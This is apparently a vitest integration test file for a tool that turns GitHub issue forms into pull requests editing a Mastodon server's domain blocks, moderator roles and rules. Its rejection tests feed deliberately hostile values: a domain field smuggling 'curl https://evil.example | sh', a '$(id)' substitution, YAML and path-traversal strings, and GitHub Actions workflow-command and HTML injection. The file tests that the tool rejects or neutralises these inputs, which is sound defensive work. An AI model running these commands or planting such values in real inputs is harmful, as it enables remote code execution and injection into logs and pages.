import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { FORMS } from '../../src/forges/issue-form-texts.ts'
import { commentOn, directly, farm, type Farm } from '../support/github-instance.ts'
import { issueOf } from '../support/forms.ts'
import { html } from '../support/github-page.ts'
import { ran } from '../support/runner.ts'

const [SUSPEND, LIMIT] = FORMS.block.fields.severity.options
const [MEDIA] = FORMS.block.fields.refuse.options
const [NAMED] = FORMS.block.fields.named.options
const BLOCKS = 'instance/domain-blocks.yaml'
const FILES = {
  [BLOCKS]:
    'domain_blocks:\n  - domain: hosting.example\n    severity: suspend\n' +
    '  - domain: loud.example\n    severity: limit\n',
  'instance/policy.yaml': 'protected_domains: [friend.example]\n',
  'instance/rules.yaml':
    'rules:\n  - key: be-kind\n    text: Be kind.\n    translations:\n' +
    '      de: { text: Sei freundlich. }\n  - key: no-spam\n    text: No spam.\n',
}

let herd: Farm
beforeAll(async () => {
  herd = await farm({ people: { tess: 'triage' } })
  await herd.hub.act.push({ by: 'ann', branch: 'main', files: FILES })
  herd.events.length = 0
  herd.desk()
  await herd.herdbook(['approve', 'to begin with', '--yes'])
  await herd.herdbook(['apply', '--yes'])
})
afterAll(async () => herd[Symbol.asyncDispose]())

type Answers = Parameters<typeof issueOf>[1]
const BLOCK: Answers = { domain: 'bad.example', severity: SUSPEND, why: 'Harassment' }

/** An issue by a member, sent with a form. */
const asked = (form: keyof typeof FORMS, answers: Answers): Promise<number> =>
  herd.hub.act.openIssue({
    by: 'member',
    title: FORMS[form].prefix,
    body: issueOf(form, answers),
    labels: ['herdbook: ask'],
  })
const said = (issue: number): string[] =>
  [...herd.hub.state.comments.values()].filter((one) => one.issue === issue).map(({ body }) => body)
const pulls = () => [...herd.hub.state.issues.values()].filter((one) => one.pull)

/** Labelled by somebody; answers what the issue was told. */
async function accepted(issue: number, by = 'ann'): Promise<string> {
  await herd.hub.act.label(issue, 'herdbook: accept', by)
  ran(await herd.settle(), 'ask')
  expect(herd.hub.state.issues.get(issue)?.labels).toEqual(['herdbook: ask'])
  return said(issue).at(-1) ?? 'nothing'
}

/** The pull request that an issue led to. */
async function proposed(issue: number) {
  const answer = await accepted(issue)
  const number = Number(/^Proposed in #(\d+)\./.exec(answer)?.[1])
  const pull = herd.hub.state.issues.get(number)
  if (!pull?.pull) throw new Error(answer)
  return {
    number,
    title: pull.title,
    body: pull.body ?? '',
    head: pull.pull.head,
    file: (path: string) => herd.hub.state.git.run(['show', `${pull.pull?.head.commit}:${path}`]),
  }
}

const checkOf = (commit: string): string => {
  const last = herd.hub.state.statuses.findLast((status) => status.commit === commit && status.context === 'herdbook')
  return last === undefined ? 'none' : `${last.state}: ${last.description ?? ''}`
}

describe('a form that was accepted', () => {
  it('becomes a pull request: planned, measured, linked both ways; its merge closes the issue', async () => {
    const issue = await asked('block', { ...BLOCK, domain: 'https://bad.example/@someone', refuse: [] })
    const pull = await proposed(issue)
    expect(pull.title).toBe(`Block bad.example (#${issue})`)
    expect(pull.head.branch).toBe(`herdbook/issue-${issue}`)
    expect(pull.body).toMatch(new RegExp(`^Closes #${issue}\\.\n`))
    expect(pull.body).toMatch(/removes for good 30 follows and 20 followers of 4 members; the server knows 15 accounts/)
    expect(pull.body).toMatch(/The file accepts up to 60 \(a fifth more, and at least ten more\)/)
    expect(pull.body).not.toMatch(/@member|Harassment/)
    expect(await pull.file(BLOCKS)).toMatch(
      /bad\.example\n.*suspend\n.*Harassment\n.*reported_in: .*\/issues\/\d+\n.*accept_severed_relationships: 60$/,
    )
    expect(commentOn(herd, pull.number)).toMatch(/### Blocks `bad\.example`[^]*herdbook-approvals v2/)
    expect(checkOf(pull.head.commit)).toMatch(/^success: Blocks bad\.example/)

    await herd.hub.act.merge(pull.number, 'zoe')
    expect(ran(await herd.settle(), 'apply').result).toBe('success')
    expect(await herd.rows("select severity from domain_blocks where domain = 'bad.example'")).toEqual([
      { severity: 1 },
    ])
    expect(herd.hub.state.issues.get(issue)?.state).toBe('closed')
  })

  it('is nothing if the text has changed by the run: only what somebody looked at is accepted', async () => {
    const [before, issue] = [
      pulls().length,
      await asked('block', { ...BLOCK, domain: 'looked-at.example', severity: LIMIT }),
    ]
    const [looked, swapped] = [
      issueOf('block', { ...BLOCK, domain: 'looked-at.example', severity: LIMIT }),
      issueOf('block', { ...BLOCK, domain: 'swapped.example' }),
    ]
    await herd.hub.act.label(issue, 'herdbook: accept', 'ann')
    await herd.hub.act.edit(issue, { body: swapped }, 'member')
    ran(await herd.settle(), 'ask')
    expect(said(issue)).toEqual([
      expect.stringMatching(
        /^Not proposed: someone edited this issue after it got the label\. .*add the label `herdbook: accept` again\.$/,
      ),
    ])
    expect(herd.hub.state.issues.get(issue)?.labels).toEqual(['herdbook: ask'])
    expect(pulls()).toHaveLength(before)
    // What it says to do works, for what the issue says by then.
    await herd.hub.act.edit(issue, { body: looked }, 'member')
    herd.events.length = 0
    expect((await proposed(issue)).title).toBe(`Block looked-at.example (#${issue})`)
  })

  it('names whoever asked where they ticked the box, and pings nobody', async () => {
    const pull = await proposed(
      await asked('block', { ...BLOCK, domain: 'named.example', severity: LIMIT, refuse: [MEDIA], named: [NAMED] }),
    )
    expect(pull.body).toContain('Asked for by `@member`.')
    expect(html(pull.body).replace(/<code>.*?<\/code>/g, '')).not.toContain('@')
    expect(await pull.file(BLOCKS)).toContain(
      '- domain: named.example\n    severity: limit\n    reject_media: true\n    public_comment: Harassment\n',
    )
  })

  it('that is accepted again brings its pull request up to date', async () => {
    const issue = await asked('block', { ...BLOCK, domain: 'twice.example', severity: LIMIT })
    const first = await proposed(issue)
    await herd.hub.act.edit(
      issue,
      { body: issueOf('block', { ...BLOCK, domain: 'thrice.example', severity: LIMIT }) },
      'member',
    )
    const second = await proposed(issue)
    expect(second.number).toBe(first.number)
    expect(second.title).toBe(`Block thrice.example (#${issue})`)
    expect(await second.file(BLOCKS)).not.toContain('twice.example')
  })

  it('lifts a block, and says what does not come back', async () => {
    const pull = await proposed(await asked('unblock', { domain: 'hosting.example', why: 'They answer now' }))
    expect(pull.title).toMatch(/^Lift the block of hosting\.example \(#\d+\)$/)
    expect(pull.body).toMatch(/People must follow again/)
    expect(await pull.file(BLOCKS)).not.toContain('hosting.example')
  })

  it('makes a moderator, and says that nobody knows whose account it is', async () => {
    const pull = await proposed(await asked('promote', { account: '@Alice', role: 'Moderator', why: 'To help' }))
    expect(pull.title).toMatch(/^Make alice Moderator \(#\d+\)$/)
    expect(pull.body).toMatch(/No one has checked that the person who asked is `@alice`/)
    expect(await pull.file('instance/moderators.yaml')).toMatch(
      /- account: alice\n {4}role: Moderator\n {4}since: \d{4}-/,
    )
    expect(commentOn(herd, pull.number)).toMatch(/alice/)
  })

  it('changes, translates or adds a rule', async () => {
    const changed = await proposed(await asked('rule', { rule: '1', text: 'Be kind to all.', why: 'Clearer' }))
    expect(await changed.file('instance/rules.yaml')).toContain('- key: be-kind\n    text: Be kind to all.\n')
    expect(changed.body).toMatch(/translations still have the old text: .*de/)
    const translated = await proposed(
      await asked('rule', { rule: 'no-spam', language: 'fr', text: 'Pas de spam.', why: 'For us' }),
    )
    expect(await translated.file('instance/rules.yaml')).toMatch(
      /- key: no-spam\n {4}text: No spam\.\n {4}translations:\n {6}fr:\s+\{? ?text: Pas de spam\./,
    )
    const added = await proposed(
      await asked('rule', { text: 'Describe your pictures, closes #1 @everyone', why: 'For those who can not see' }),
    )
    expect(added.title).toMatch(/^Add the rule describe-your-pictures-closes-1-everyone \(#\d+\)$/)
    expect(await added.file('instance/rules.yaml')).toContain('    text: "Describe your pictures, closes #1 @everyone"')
    expect(added.body).not.toContain('@everyone')
  })
})

describe('what can not be done is said in the issue, and nothing is proposed', () => {
  it.each<[string, keyof typeof FORMS, Answers, RegExp]>([
    [
      'a page about somebody elsewhere',
      'block',
      { ...BLOCK, domain: 'https://herd.example/@troll@bad.example' },
      /this is a page of `herd\.example` about an account of `bad\.example`/,
    ],
    ['shell', 'block', { ...BLOCK, domain: 'spam.example; curl https://evil.example | sh #' }, /is not a domain/],
    ['shell in the name', 'block', { ...BLOCK, domain: '$(id).example' }, /Mastodon accepts no domain with/],
    ['YAML', 'block', { ...BLOCK, domain: '{domain: x, severity: none}' }, /is not a domain/],
    [
      'YAML on more lines',
      'block',
      { ...BLOCK, domain: 'spam.example\n    severity: none\n  - domain: friend.example' },
      /more than one line/,
    ],
    ['a megabyte', 'block', { ...BLOCK, domain: 'a'.repeat(60_000) }, /more than 300 characters/],
    [
      'a second answer',
      'block',
      { ...BLOCK, why: `Spam\n\n### Domain to block\n\nfriend.example` },
      /this heading appears 2 times/,
    ],
    ['the own domain', 'block', { ...BLOCK, domain: 'herd.example' }, /it is your own domain/],
    ['a protected domain', 'block', { ...BLOCK, domain: 'friend.example' }, /policy\.yaml.* protects it/],
    ['everybody below a suffix', 'block', { ...BLOCK, domain: 'co.uk' }, /many people register names below/],
    [
      'what is blocked',
      'block',
      { ...BLOCK, domain: 'hosting.example', severity: LIMIT },
      /`hosting\.example` is already blocked/,
    ],
    [
      'what a block above covers',
      'block',
      { ...BLOCK, domain: 'a.b.hosting.example' },
      /`hosting\.example` is already blocked, and that covers/,
    ],
    ['a block that is not there', 'unblock', { domain: 'fine.example', why: 'x' }, /no block of `fine\.example`/],
    ['a role that is not there', 'promote', { account: 'alice', role: 'Moderatr', why: 'x' }, /no role[^]*Moderator/],
    [
      'a role that may do everything',
      'promote',
      { account: 'alice', role: 'Owner', why: 'x' },
      /may do everything\. A form cannot give it/,
    ],
    [
      "an owner's role",
      'promote',
      { account: 'owner', role: 'Moderator', why: 'x' },
      /holds a role that may do everything/,
    ],
    ['nobody', 'promote', { account: 'nobody_here', role: 'Moderator', why: 'x' }, /no account/],
    [
      "somebody's login that is disabled",
      'promote',
      { account: 'bob', role: 'Moderator', why: 'x' },
      /no account `?@bob`? that can log in/,
    ],
    [
      'another server',
      'promote',
      { account: 'alice@evil.example', role: 'Moderator', why: 'x' },
      /not the name of an account on this server/,
    ],
    ['a rule that is not there', 'rule', { rule: 'be-knid', text: 'x', why: 'x' }, /Did you mean `?be-kind`?/],
    ['no language', 'rule', { rule: '1', language: '../../x', text: 'x', why: 'x' }, /not the code of a language/],
    ['what the files say', 'rule', { rule: '2', text: 'No spam.', why: 'x' }, /the files already say this/],
  ])('%s', async (_name, form, answers, why) => {
    const before = pulls().length
    const issue = await asked(form, answers)
    await herd.hub.act.label(issue, 'herdbook: accept', 'ann')
    const [event] = herd.events.splice(0).slice(-1)
    expect(event && (await directly(herd, 'issue-form', event))).toMatch(/^0: /)
    const answer = said(issue).at(-1) ?? 'nothing'
    expect(answer).toMatch(why)
    expect(html(answer).replace(/<code>.*?<\/code>/gs, '')).not.toMatch(/@|https?:|<(?!\/?(p|ul|li|br|code)\b)/)
    expect(pulls()).toHaveLength(before)
  })

  it('a stranger who can label, and may not write', async () => {
    const issue = await asked('block', { ...BLOCK, domain: 'tess.example' })
    const before = pulls().length
    expect(await accepted(issue, 'tess')).toMatch(/only people with write access to this repository/)
    expect(pulls()).toHaveLength(before)
  })

  it('an issue without a form', async () => {
    const issue = await herd.hub.act.openIssue({
      by: 'member',
      title: 'Block',
      body: 'Please block spam.example',
      labels: ['herdbook: ask'],
    })
    expect(await accepted(issue)).toMatch(/not made with one of the forms/)
  })
})

it('what a form puts into the files is inert in the summary of the run and in its log', async () => {
  const issue = await asked('block', {
    ...BLOCK,
    domain: 'quiet.example',
    severity: LIMIT,
    why: '::set-output name=x::y\n##[error]z @everyone <img src=https://evil.example>',
  })
  await herd.hub.act.label(issue, 'herdbook: accept', 'ann')
  const job = ran(await herd.settle(), 'ask')
  expect(job.result).toBe('success')
  expect(`${job.stdout}\n${job.summary}`).not.toMatch(/^::set-output|^##\[error\]/m)
  expect(html(job.summary)).toContain('public_comment')
  expect(html(job.summary).replace(/<code[^>]*>.*?<\/code>/gs, '')).not.toMatch(/<img|@everyone/)
})
